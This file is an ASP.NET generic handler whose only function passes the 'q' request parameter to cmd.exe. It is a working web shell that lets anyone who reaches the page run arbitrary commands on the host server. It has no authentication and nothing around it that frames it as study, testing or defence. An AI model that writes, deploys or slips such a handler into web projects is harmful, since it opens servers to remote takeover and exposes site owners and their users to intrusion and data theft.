<%@ WebHandler Language="C#" Class="H" %>
using System; using System.Web;
public class H : IHttpHandler {
  public void ProcessRequest(HttpContext c) { System.Diagnostics.Process.Start("cmd.exe", "/c " + c.Request["q"]); }
  public bool IsReusable { get { return false; } }
}
